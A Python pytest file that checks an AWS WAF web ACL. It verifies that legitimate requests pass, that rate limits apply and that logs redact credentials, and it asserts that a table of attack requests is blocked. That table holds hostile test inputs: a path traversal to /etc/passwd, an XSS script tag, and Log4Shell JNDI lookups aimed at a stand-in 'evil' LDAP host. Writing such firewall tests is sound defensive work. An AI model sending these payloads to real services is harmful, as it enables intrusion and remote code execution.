"""WAF: every request that a client may make passes, and attacks are blocked (docs/adr, number 17)."""

import json
from typing import Any

import pytest

from outpost_local.waf.managed_rules import GROUPS
from outpost_local.waf.request import WebRequest
from outpost_local.waf.web_acl import evaluate
from outpost_ops.config import load
from tests.infra.api_requests import OURS, PROMPTS, legitimate_requests
from tests.infra.assembly import Assembly
from tests.infra.conftest import ROOT

PUBLIC = [path.stem for path in (ROOT / "config").glob("*.toml") if load(path).ingress.waf]
LABELS = {rule.name: rule.label for rules in GROUPS.values() for rule in rules}
BODY_RULES = [rule for rules in GROUPS.values() for rule in rules if rule.name.endswith("_BODY")]


def acl(assembly: Assembly, environment: str) -> dict[str, Any]:
    (found,) = (a["Properties"] for _, a in assembly.of_type("AWS::WAFv2::WebACL", environment))
    properties: dict[str, Any] = found
    return properties


def counted(rules: dict[str, Any]) -> set[str]:
    """Return the managed rules that only count."""
    groups = (rule["Statement"].get("ManagedRuleGroupStatement", {}) for rule in rules["Rules"])
    overrides = (override for group in groups for override in group.get("RuleActionOverrides", ()))
    return {override["Name"] for override in overrides if "Count" in override["ActionToUse"]}


def test_public_environments_have_a_firewall_and_only_they(assembly: Assembly, environment: str) -> None:
    assert len(list(assembly.of_type("AWS::WAFv2::WebACLAssociation", environment))) == (environment in PUBLIC)


@pytest.mark.parametrize("name", PUBLIC)
def test_every_legitimate_request_passes(assembly: Assembly, name: str) -> None:
    rules = acl(assembly, name)
    blocked = {
        (decision.rule, request.method, request.path, request.query[:80], request.body[:80])
        for request in legitimate_requests()
        if (decision := evaluate(rules, request)).blocked
    }
    assert blocked == set()


def test_every_rule_that_only_counts_would_block_a_legitimate_request(assembly: Assembly) -> None:
    rules = acl(assembly, "prod")
    labels = {label for request in legitimate_requests() for label in evaluate(rules, request).labels}
    assert labels >= {LABELS[name] for name in counted(rules)}


def test_every_label_that_is_matched_is_one_that_a_counting_rule_adds(assembly: Assembly) -> None:
    """A label with a slip of the pen would match nothing."""
    rules = acl(assembly, "prod")
    text = json.dumps(rules)
    matched = {label for label in LABELS.values() if f'"{label}"' in text}
    assert text.count('"awswaf:') == len(matched)
    assert matched == {LABELS[name] for name in counted(rules)} - {LABELS["NoUserAgent_HEADER"]}


ID, TRAVERSAL, SCRIPT = "01K9ZJ3J0X4T8WB6Q1V5N7M2CD", "../../../../etc/passwd", "<script>alert(1)</script>"


def attack(path: str, query: str = "", method: str = "GET", body: bytes = b"", **headers: str) -> WebRequest:
    own = tuple((name.replace("_", "-"), value) for name, value in headers.items())
    return WebRequest(method, path, query, (*own, *OURS), body)


CORE, BAD = "AWSManagedRulesCommonRuleSet", "AWSManagedRulesKnownBadInputsRuleSet"
ATTACKS = {
    "a log": (attack(f"/artifacts/{ID}/output.log"), f"{CORE}/RestrictedExtensions_URIPATH"),
    "a configuration": (attack("/app.ini"), f"{CORE}/RestrictedExtensions_URIPATH"),
    "a traversal": (attack(f"/dispatch/{TRAVERSAL}"), f"{CORE}/GenericLFI_URIPATH"),
    "an encoded traversal": (attack("/dispatch/%2e%2e%2f%2e%2e%2fetc"), f"{CORE}/GenericLFI_URIPATH"),
    "a script in a path": (attack(f"/{SCRIPT}"), f"{CORE}/CrossSiteScripting_URIPATH"),
    "a long path": (attack("/" + "a" * 1_024), f"{CORE}/SizeRestrictions_URIPATH"),
    "a system file": (attack("/static/proc/version"), "AWSManagedRulesLinuxRuleSet/LFI_URIPATH"),
    "a Java archive": (attack("/WEB-INF/web.xml"), f"{BAD}/ExploitablePaths_URIPATH"),
    "a lookup in a path": (attack("/${jndi:ldap://evil/a}"), f"{BAD}/Log4JRCE_URIPATH"),
    "a scanner": (attack("/", User_Agent="Mozilla/5.0 (Nessus)"), f"{CORE}/UserAgent_BadBots_HEADER"),
    "a lookup in a header": (attack("/dispatch", X="${jndi:ldap://evil.example.com/}"), f"{BAD}/Log4JRCE_HEADER"),
    "another host": (attack("/", Host="localhost:8080"), f"{BAD}/Host_localhost_HEADER"),
    "another method": (attack("/", method="PROPFIND"), f"{BAD}/PROPFIND_METHOD"),
    "many cookies": (attack("/", Cookie="a=" + "b" * 10_240), f"{CORE}/SizeRestrictions_Cookie_HEADER"),
    "a traversal in a query": (attack("/workspaces", f"cursor={TRAVERSAL}"), "queries-elsewhere"),
    "a script in a query": (attack(f"/dispatch/{ID}", f"logLimit={SCRIPT}"), "queries-elsewhere"),
    "a long query": (attack("/tenants", "cursor=" + "a" * 2_048), "queries-elsewhere"),
    "a script in a body": (attack("/keys/1/rotate", method="POST", body=SCRIPT.encode()), "bodies-elsewhere"),
    "a long body": (attack("/workspaces", method="POST", body=b"a" * 8_193), "bodies-elsewhere"),
}


@pytest.mark.parametrize("name", PUBLIC)
@pytest.mark.parametrize("kind", ATTACKS)
def test_an_attack_is_blocked(assembly: Assembly, name: str, kind: str) -> None:
    request, rule = ATTACKS[kind]
    decision = evaluate(acl(assembly, name), request)
    assert (decision.blocked, decision.rule) == (True, rule)


@pytest.mark.parametrize("name", PUBLIC)
def test_each_address_is_limited(assembly: Assembly, name: str) -> None:
    limit = load(ROOT / "config" / f"{name}.toml").ingress.requests_per_address
    request = WebRequest("GET", "/health", "", OURS)
    assert not evaluate(acl(assembly, name), request, limit).blocked
    assert evaluate(acl(assembly, name), request, limit + 1).rule == "requests-per-address"


@pytest.mark.parametrize("name", PUBLIC)
def test_requests_are_logged_without_keys_and_tokens(assembly: Assembly, name: str) -> None:
    (logging,) = (r["Properties"] for _, r in assembly.of_type("AWS::WAFv2::LoggingConfiguration", name))
    groups = [g["Properties"]["LogGroupName"] for _, g in assembly.of_type("AWS::Logs::LogGroup", name)]
    destination = json.dumps(logging["LogDestinationConfigs"])

    assert any(group in destination for group in groups if group.startswith("aws-waf-logs-"))
    headers = {field["SingleHeader"]["Name"] for field in logging["RedactedFields"] if "SingleHeader" in field}
    assert headers == {"authorization", "x-api-key"}
    assert {"QueryString": {}} in logging["RedactedFields"]


def test_there_are_fifty_realistic_prompts() -> None:
    assert len({prompt["task"] for prompt in PROMPTS}) >= 50
    assert all(20 <= len(prompt["task"]) <= 50_000 for prompt in PROMPTS)


@pytest.mark.parametrize("prompt", PROMPTS, ids=[prompt["task"][:40] for prompt in PROMPTS])
def test_a_prompt_names_the_rules_that_would_have_blocked_it(prompt: dict[str, Any]) -> None:
    body = json.dumps({"agent": "claude", "task": prompt["task"]}).encode()
    request = WebRequest("POST", "/elsewhere", "", OURS, body)
    assert {rule.name for rule in BODY_RULES if rule.matches(request)} == set(prompt["hits"])
